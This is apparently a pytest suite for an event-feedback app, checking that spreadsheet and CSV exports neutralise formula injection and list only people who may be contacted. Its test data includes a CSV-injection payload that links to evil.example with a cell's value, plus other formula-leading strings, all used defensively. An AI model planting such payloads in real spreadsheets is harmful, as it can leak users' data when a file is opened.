"""Exports of an event's responses and sign-ups: hostile text round-trips exactly through the csv
module and openpyxl, neutralised and nothing else changed; only contactable people are listed."""

from __future__ import annotations

import csv
import datetime as dt
import uuid
from pathlib import Path

import openpyxl
import pytest

from app.core.actions import validate_action
from app.core.events import validate_event
from app.core.practices import validate_practice
from app.core.responses import ResponseMode
from app.core.signups import ConsentMethod, validate_signup
from app.core.surveys import TEXT_MAX
from app.documents.exports import ExportFormat, ExportWhat, responses_table, write_export
from app.documents.safe_tables import FORMULA_STARTS, neutralise
from app.store import actions, events, people, practices
from app.store.events import EventRecord
from app.store.export_rows import ExportRows, ResponseRow, read_export_rows
from app.store.models import Response, utcnow
from app.store.responses import submit_response
from app.store.store import Store
from app.store.survey_library import load_library

LONG = ("Long comment. " * 200)[:TEXT_MAX - 1] + "!"  # the comment question's limit, exactly
HOSTILE_COMMENTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    'She said "the wait was long", then left',
    "Parking, signage, and the café",
    "First line\nsecond line\nthird line",
    "Windows line\r\nending",
    "Lovely staff 😀👍🏽 — thank you",
    "الخدمة كانت ممتازة، شكرا",
    "השירות היה מצוין",
    "Mixed: العربية and English, 'quoted' too",
    LONG,
]
STARTS = {f"{i:02d}" for i in range(len(HOSTILE_COMMENTS))}


def _submit(store: Store, event_id: str, surveys: dict, answers: dict, *, at: dt.datetime,
            mode: ResponseMode = ResponseMode.KIOSK, paper: tuple[str, int] | None = None,
            rid: str | None = None) -> str:
    rid = rid or str(uuid.uuid4())
    with store.session() as session:
        assert submit_response(session, response_id=rid, device_id=store.device_id, event_id=event_id,
                               surveys=surveys, answers=answers, mode=mode, language="en", submitted_at=at,
                               paper=paper)
    return rid


@pytest.fixture
def seeded(store: Store) -> dict:
    library = load_library(store.paths.surveys).surveys
    with store.session() as session:
        event = events.add_event(session, store.device_id, validate_event(
            {"name": "=Spring fair, \"Town\" Hall", "kind": "community-event", "event_date": "2026-04-14",
             "survey_ids": "fft,topics,equality"}))
        other = events.add_event(session, store.device_id, validate_event(
            {"name": "Another event", "kind": "community-event", "event_date": "2026-04-15"}))
        practice = practices.save_practice(session, store.device_id, validate_practice("High Street Surgery",
                                                                                       "G82001"))
    surveys = {sid: library[sid] for sid in ("fft", "topics", "equality")}
    start = dt.datetime(2026, 4, 14, 9, 0, tzinfo=dt.UTC)
    ids = []
    for n, comment in enumerate(HOSTILE_COMMENTS):
        answers = {"fft": {"fft_rating": "good", "fft_comment": comment}}
        if n == 0:
            answers |= {"topics": {"topics": ["gp_access", "pharmacy"]},
                        "equality": {"age_band": "65_74", "postcode_district": "me14"}}
        ids.append(_submit(store, event.id, surveys, answers, at=start + dt.timedelta(minutes=n)))
    paper_id = _submit(store, event.id, surveys, {"fft": {"fft_rating": "very_poor"}},
                       at=start + dt.timedelta(hours=2), mode=ResponseMode.PAPER, paper=("F-ABCD-0001", 3))
    deleted = _submit(store, event.id, surveys, {"fft": {"fft_rating": "poor", "fft_comment": "deleted"}}, at=start)
    _submit(store, other.id, {"fft": library["fft"]}, {"fft": {"fft_rating": "poor"}}, at=start)
    with store.session() as session:
        session.get(Response, deleted).deleted_at = utcnow()

    staff = people.ConsentGiven("privacy-notice", 3, ConsentMethod.STAFF, event_id=event.id)

    def signup(values: dict) -> str:
        base = {"interests": ["newsletter"], "contact_method": "email"}
        with store.session() as session:
            return people.save_signup(session, store.device_id, validate_signup(base | values), staff,
                                      event_id=event.id).id

    signup({"name": "=HYPERLINK(\"http://x\")", "email": "hyper@example.org", "phone": "07911 123456",
            "postcode": "me14 1xx", "interests": ["ppg", "surveys"], "practice_id": practice.id,
            "access_needs": "-wheelchair access\n@ground floor, \"please\"", "contact_method": "text"})
    signup({"name": "Fatima الزهراء", "email": "fatima@example.org"})
    withdrawn = signup({"name": "Wendy Withdrawn", "email": "wendy@example.org"})
    erased = signup({"name": "Eric Erased", "email": "eric@example.org"})
    kept = signup({"name": "Dora Duplicate", "email": "dora@example.org"})
    duplicate = signup({"name": "Dora Duplicate", "email": "dora.two@example.org"})
    with store.session() as session:
        people.withdraw_consent(session, withdrawn)
        people.erase_person(session, erased)
        people.merge_people(session, kept, duplicate)
        people.save_signup(session, store.device_id, validate_signup(
            {"name": "Elsewhere Person", "email": "else@example.org", "interests": ["newsletter"],
             "contact_method": "email"}), staff, event_id=other.id)
    with store.session() as session:
        for n, text in enumerate(HOSTILE_COMMENTS):
            actions.add_action(session, store.device_id, validate_action(
                {"event_id": event.id, "you_said": text, "we_will": f"{n:02d} {text}", "owner": text[:200],
                 "due_date": "2026-06-30", "topic": "pharmacy" if n == 0 else None,
                 "status": "done" if n == 1 else "agreed", "what_done": text if n == 1 else "",
                 "done_on": "2026-05-01" if n == 1 else None}, today=dt.date(2026, 5, 20)))
        actions.add_action(session, store.device_id, validate_action(
            {"event_id": other.id, "you_said": "elsewhere", "we_will": "elsewhere"}, today=dt.date(2026, 5, 20)))
    return {"event": event, "ids": ids, "paper": paper_id, "surveys": library}


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _export(store: Store, seeded: dict, path: Path, fmt: ExportFormat, what: list[ExportWhat]) -> dict[str, int]:
    with store.session() as session:
        rows = read_export_rows(session, seeded["event"].id)
        listed = actions.list_actions(session, seeded["event"].id)
    return write_export(path, rows, seeded["surveys"], fmt, what, listed)


def _no_live_formula(cells: list) -> None:
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), repr(cell)


def _comment_column(header: list[str]) -> int:
    return next(i for i, h in enumerate(header) if h.endswith("[fft.fft_comment]"))


def test_csv_responses_round_trip_exactly(store: Store, seeded: dict, tmp_path: Path) -> None:
    out = tmp_path / "responses.csv"
    counts = _export(store, seeded, out, ExportFormat.CSV, [ExportWhat.RESPONSES])
    assert counts == {"Responses": len(HOSTILE_COMMENTS) + 1}
    header, *rows = _read_csv(out)
    assert len(rows) == len(HOSTILE_COMMENTS) + 1, "the deleted response and the other event's are left out"
    assert header[:8] == ["Response id", "Event", "Submitted (UTC)", "How given", "Language", "Paper card",
                          "Paper card row", "Raised by a group"]
    assert header[8] == "Overall, how was your experience of our service? [fft.fft_rating]"
    assert "What is your feedback about? Choose all that apply. [topics.topics]" in header
    assert header[-1] == "What is the first part of your postcode? [equality.postcode_district]"
    comment = _comment_column(header)
    by_id = {row[0]: row for row in rows}
    for rid, text in zip(seeded["ids"], HOSTILE_COMMENTS, strict=True):
        row = by_id[rid]
        assert row[comment] == neutralise(text)
        assert row[1] == "'=Spring fair, \"Town\" Hall"
        assert row[8] == "Good" and row[3] == "Kiosk" and row[4] == "en"
    assert by_id[seeded["ids"][0]][comment] == "'" + HOSTILE_COMMENTS[0]
    assert by_id[seeded["ids"][2]][comment] == "'-2"
    assert len(by_id[seeded["ids"][-1]][comment]) == TEXT_MAX
    first = by_id[seeded["ids"][0]]
    assert first[2] == "2026-04-14 09:00:00"
    assert first[-1] == "ME14"
    paper = by_id[seeded["paper"]]
    assert (paper[3], paper[5], paper[6], paper[8], paper[comment]) == ("Paper", "F-ABCD-0001", "3", "Very poor", "")
    for row in [header, *rows]:
        _no_live_formula(row)


def test_multiple_choice_answers_are_english_labels_joined(store: Store, seeded: dict, tmp_path: Path) -> None:
    out = tmp_path / "responses.csv"
    _export(store, seeded, out, ExportFormat.CSV, [ExportWhat.RESPONSES])
    header, *rows = _read_csv(out)
    topics = seeded["surveys"]["topics"].question("topics")
    labels = {o.value: o.text["en"] for o in topics.options}
    row = next(r for r in rows if r[0] == seeded["ids"][0])
    cell = row[header.index("What is your feedback about? Choose all that apply. [topics.topics]")]
    assert cell == f"{labels['gp_access']}; {labels['pharmacy']}"
    age = seeded["surveys"]["equality"].question("age_band")
    assert row[header.index("How old are you? [equality.age_band]")] == next(
        o.text["en"] for o in age.options if o.value == "65_74")


def test_xlsx_holds_both_tables_as_text_cells(store: Store, seeded: dict, tmp_path: Path) -> None:
    out = tmp_path / "event.xlsx"
    counts = _export(store, seeded, out, ExportFormat.XLSX, list(ExportWhat))
    assert counts == {"Responses": len(HOSTILE_COMMENTS) + 1, "Sign-ups": 3, "Actions": len(HOSTILE_COMMENTS)}
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Responses", "Sign-ups", "Actions"]
    sheet = book["Responses"]
    header = [c.value for c in sheet[1]]
    comment = _comment_column(header)
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE_COMMENTS) + 1
    by_id = {row[0].value: row for row in rows}
    for rid, text in zip(seeded["ids"], HOSTILE_COMMENTS, strict=True):
        cell = by_id[rid][comment]
        assert cell.data_type == "s"
        # XML turns a carriage return inside a text into a line feed on reading; the only
        # change allowed, and the CSV keeps it exactly (test above).
        assert cell.value == neutralise(text).replace("\r\n", "\n")
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
        _no_live_formula([c.value for c in row])
    paper = by_id[seeded["paper"]]
    assert paper[6].value == 3 and paper[6].data_type == "n", "numbers stay numbers"
    signups = list(book["Sign-ups"].iter_rows(values_only=True))
    assert len(signups) == 4
    for row in signups:
        _no_live_formula(list(row))


ACTION_HEADER = ["Event", "Event date", "Topic", "You said", "We will", "Owner", "Due", "Status", "What was done",
                 "Done on"]


def _check_actions(header: list, rows: list[list]) -> None:
    assert header == ACTION_HEADER
    assert len(rows) == len(HOSTILE_COMMENTS), "the other event's action is left out"
    by_start = {row[4][:2]: row for row in rows}
    assert set(by_start) == STARTS
    for n, text in enumerate(HOSTILE_COMMENTS):
        row = by_start[f"{n:02d}"]
        saved = text.replace("\r", "")  # an action's text is saved without carriage returns, as typed in a form
        assert row[3] == neutralise(saved)
        assert row[4] == f"{n:02d} {saved}"
        assert row[5] == neutralise(saved[:200])
        assert row[0] == "'=Spring fair, \"Town\" Hall" and row[1] == "2026-04-14" and row[6] == "2026-06-30"
        _no_live_formula(row)
    assert by_start["00"][2] == "Pharmacy" and by_start["00"][7] == "Agreed"
    assert (by_start["01"][7], by_start["01"][8], by_start["01"][9]) == ("Done", "'+1", "2026-05-01"), \
        "what was done is neutralised too"
    assert len(by_start[f"{len(HOSTILE_COMMENTS) - 1:02d}"][3]) == TEXT_MAX


def test_actions_round_trip_exactly_through_csv_and_xlsx(store: Store, seeded: dict, tmp_path: Path) -> None:
    out = tmp_path / "actions.csv"
    assert _export(store, seeded, out, ExportFormat.CSV, [ExportWhat.ACTIONS]) == {"Actions": len(HOSTILE_COMMENTS)}
    header, *rows = _read_csv(out)
    _check_actions(header, rows)
    book_path = tmp_path / "event.xlsx"
    _export(store, seeded, book_path, ExportFormat.XLSX, [ExportWhat.ACTIONS])
    sheet = openpyxl.load_workbook(book_path)["Actions"]
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))
    header, *rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    _check_actions(header, rows)


def test_signups_list_only_people_who_may_be_contacted(store: Store, seeded: dict, tmp_path: Path) -> None:
    out = tmp_path / "signups.csv"
    counts = _export(store, seeded, out, ExportFormat.CSV, [ExportWhat.SIGNUPS])
    assert counts == {"Sign-ups": 3}
    header, *rows = _read_csv(out)
    assert header == ["Name", "Email", "Phone", "Postcode", "Interests", "GP practice", "GP practice code",
                      "Preferred contact", "Access needs", "Signed up at", "Consent given",
                      "Consent given on (UTC)", "Privacy notice", "Privacy notice version"]
    names = [r[0] for r in rows]
    assert names == ["'=HYPERLINK(\"http://x\")", "Dora Duplicate", "Fatima الزهراء"]
    assert rows[1][1] == "dora@example.org", "the record kept from a merge; the duplicate is gone"
    text = out.read_text(encoding="utf-8-sig")
    for gone in ("Wendy", "wendy@", "Eric", "eric@", "dora.two", "Elsewhere"):
        assert gone not in text
    hyper = rows[0]
    assert hyper[1:9] == ["hyper@example.org", "07911 123456", "ME14 1XX",
                          "Join my GP practice's Patient Participation Group; Take part in surveys",
                          "High Street Surgery", "G82001", "Text message",
                          "'-wheelchair access\n@ground floor, \"please\""]
    assert hyper[9] == "'=Spring fair, \"Town\" Hall"
    assert hyper[10] == "Given to staff, recorded on the person's behalf"
    assert hyper[12:] == ["privacy-notice", "3"]
    for row in [header, *rows]:
        _no_live_formula(row)


def test_a_merged_person_is_listed_once_under_the_record_kept(store: Store, tmp_path: Path) -> None:
    library = load_library(store.paths.surveys).surveys
    with store.session() as session:
        event = events.add_event(session, store.device_id, validate_event(
            {"name": "Stall", "kind": "outreach-stall", "event_date": "2026-04-14"}))
        consent = people.ConsentGiven("privacy-notice", 1, ConsentMethod.KIOSK, event_id=event.id)
        details = {"interests": ["newsletter"], "contact_method": "email"}
        kept = people.save_signup(session, store.device_id, validate_signup(
            details | {"name": "Dora", "email": "dora@example.org"}), consent, event_id=event.id)
        dup = people.save_signup(session, store.device_id, validate_signup(
            details | {"name": "Dora", "email": "dora2@example.org"}), consent, event_id=event.id)
        people.merge_people(session, kept.id, dup.id)
        rows = read_export_rows(session, event.id)
    out = tmp_path / "s.csv"
    write_export(out, rows, library, ExportFormat.CSV, [ExportWhat.SIGNUPS])
    _header, *found = _read_csv(out)
    assert [(r[0], r[1], r[10]) for r in found] == [("Dora", "dora@example.org", "At the kiosk")]


def test_leading_tabs_and_carriage_returns_are_neutralised(tmp_path: Path) -> None:
    """The store trims answers, so a tab or CR at the start cannot arrive that way; rows from
    elsewhere (a future import, the central database) still go through the same table."""
    from app.core.events import EventDetails, EventKind

    details = EventDetails(name="\tEvent", kind=EventKind.COMMUNITY_EVENT, event_date=dt.date(2026, 4, 14),
                           survey_ids=("fft",))
    record = EventRecord("e" * 36, 1, details, utcnow(), utcnow(), None)
    hostile = ["\t=1", "\r=1", "\t", "@", "-", "+", "="]
    responses = [ResponseRow(f"r{n}", utcnow(), "kiosk", "en", None, None, False,
                             {"fft": {"fft_rating": "good", "fft_comment": text}}, {"fft": 1})
                 for n, text in enumerate(hostile)]
    rows = ExportRows(record, responses, [])
    library = load_library(None).surveys
    table = responses_table(rows, library)
    out = tmp_path / "r.csv"
    write_export(out, rows, library, ExportFormat.CSV, [ExportWhat.RESPONSES])
    header, *written = _read_csv(out)
    assert header == list(table.header)
    comment = _comment_column(header)
    assert [r[comment] for r in written] == ["'" + text for text in hostile]
    assert all(r[1] == "'\tEvent" for r in written)
    xlsx = tmp_path / "r.xlsx"
    write_export(xlsx, rows, library, ExportFormat.XLSX, [ExportWhat.RESPONSES])
    sheet = openpyxl.load_workbook(xlsx)["Responses"]
    values = [row[comment] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == [("'" + text).replace("\r", "\n") for text in hostile]
    assert all(not v.startswith(FORMULA_STARTS) for v in values)


def test_an_event_with_nothing_yet_exports_headings_only(store: Store, tmp_path: Path) -> None:
    with store.session() as session:
        event = events.add_event(session, store.device_id, validate_event(
            {"name": "Quiet day", "kind": "outreach-stall", "event_date": "2026-04-14"}))
        rows = read_export_rows(session, event.id)
    out = tmp_path / "empty.xlsx"
    counts = write_export(out, rows, load_library(None).surveys, ExportFormat.XLSX, list(ExportWhat))
    assert counts == {"Responses": 0, "Sign-ups": 0, "Actions": 0}
    book = openpyxl.load_workbook(out)
    assert [book[name].max_row for name in book.sheetnames] == [1, 1, 1]


def test_a_csv_holds_one_table(store: Store, seeded: dict, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="one table"):
        _export(store, seeded, tmp_path / "x.csv", ExportFormat.CSV, list(ExportWhat))
    assert not list(tmp_path.glob("x.csv*"))


def test_a_person_whose_every_consent_was_withdrawn_is_left_out(store: Store) -> None:
    """A consent withdrawn at the centre reaches the consent row; the person alone is not enough."""
    from app.store.models import Consent

    with store.session() as session:
        event = events.add_event(session, store.device_id, validate_event(
            {"name": "Stall", "kind": "outreach-stall", "event_date": "2026-04-14"}))
        consent = people.ConsentGiven("privacy-notice", 1, ConsentMethod.STAFF, event_id=event.id)
        person = people.save_signup(session, store.device_id, validate_signup(
            {"name": "Ivy", "email": "ivy@example.org", "interests": ["newsletter"], "contact_method": "email"}),
            consent, event_id=event.id)
        assert [s.name for s in read_export_rows(session, event.id).signups] == ["Ivy"]
        session.get(Consent, person.consents[0].id).withdrawn_at = utcnow()
        session.flush()
        assert read_export_rows(session, event.id).signups == []
